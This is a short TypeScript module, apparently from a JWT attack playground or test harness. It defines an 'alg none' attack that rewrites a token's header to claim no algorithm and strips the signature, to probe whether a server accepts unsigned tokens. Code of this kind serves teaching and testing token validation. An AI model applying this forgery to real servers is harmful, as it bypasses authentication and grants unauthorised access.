import { unsigned } from '../../signing/sign'
import { compact } from '../../playground/json-text'
import { defineAttack } from '../attack'
import { withMembers } from '../parts'

export default defineAttack({
  id: 'alg-none',
  name: 'alg none',
  hopes: 'that the server lets the token say it needs no signature.',
  scenario: 'alg-none',
  async apply({ header, payload }) {
    const text = compact(withMembers(header, { alg: 'none', kid: undefined }))
    return { token: `${unsigned(text, compact(payload))}.`, did: 'alg is none now, and the signature is gone.' }
  },
})
